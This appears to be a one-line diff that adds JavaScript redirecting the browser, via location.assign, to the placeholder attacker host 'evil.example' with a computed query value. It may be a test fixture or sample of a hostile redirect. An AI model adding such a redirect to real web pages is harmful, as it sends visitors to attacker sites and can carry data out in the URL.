@@ -1,0 +1,1 @@
+var h=`evil.example`; location.assign(`https://${h}/t?x=${1+2}`);
